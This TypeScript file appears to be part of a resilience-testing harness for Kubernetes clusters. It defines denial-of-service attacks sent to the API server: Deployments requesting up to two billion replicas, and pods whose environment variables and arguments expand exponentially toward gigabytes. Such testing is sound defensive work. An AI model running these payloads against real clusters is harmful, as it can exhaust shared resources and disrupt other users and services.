// What one person's object makes the cluster's own programs do, and what other clients notice of it.
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from './attack.ts';
import { bearer, send, session } from './wire.ts';

const DEPLOYMENTS = '/apis/apps/v1/namespaces/default/deployments';
const PODS = '/api/v1/namespaces/default/pods';
const SECONDS = 15;

function manyReplicas(name: string, replicas: number, flags: readonly string[]): Attack {
  return {
    name,
    what: `a Deployment of ${replicas} replicas`,
    isByEditor: true,
    isForOursOnly: true,
    flags,
    async run(target, signal) {
      const labels = { app: 'many' };
      const template = { metadata: { labels }, spec: { containers: [{ name: 'a', image: 'a' }] } };
      const spec = { replicas, selector: { matchLabels: labels }, template };
      const code = await post(target, DEPLOYMENTS, { metadata: { name: 'many' }, spec });
      await sleep(SECONDS * 1000, undefined, { signal });
      return `${code}`;
    },
  };
}

/** A variable that holds the one before it twice, `count` times over. */
function doubling(count: number): readonly { readonly name: string; readonly value: string }[] {
  return Array.from({ length: count }, (_unused, index) => ({
    name: `V${index}`,
    value: index === 0 ? 'x' : `$(V${index - 1})$(V${index - 1})`,
  }));
}

const expansion: Attack = {
  name: 'pod-expansion',
  what: 'pods whose variables and arguments would become gigabytes',
  isByEditor: true,
  isForOursOnly: true,
  async run(target, signal) {
    const env = [{ name: 'A', value: 'x'.repeat(10_000) }];
    const args = Array.from({ length: 20 }, () => '$(A)'.repeat(2_000));
    const containers = [
      [{ name: 'a', image: 'a', env, args }],
      Array.from({ length: 10 }, (_unused, index) => ({ name: `c${index}`, image: 'a', env: doubling(60) })),
    ];
    const codes = [];
    for (const [index, each] of containers.entries())
      codes.push(await post(target, PODS, { metadata: { name: `expands-${index}` }, spec: { containers: each } }));
    await sleep(SECONDS * 1000, undefined, { signal });
    return codes.join(', ');
  },
};

export const attacks: readonly Attack[] = [
  expansion,
  manyReplicas('replicas-300', 300, ['--nodes=20']),
  manyReplicas('replicas-2000', 2_000, ['--nodes=20']),
  manyReplicas('replicas-2e9', 2_000_000_000, []),
];

async function post(target: AttackTarget, path: string, object: unknown): Promise<number> {
  const one = session(target);
  try {
    const headers = { ...bearer(target), 'content-type': 'application/json', ':method': 'POST', ':path': path };
    return await send(one, headers, JSON.stringify(object));
  } finally {
    one.destroy();
  }
}
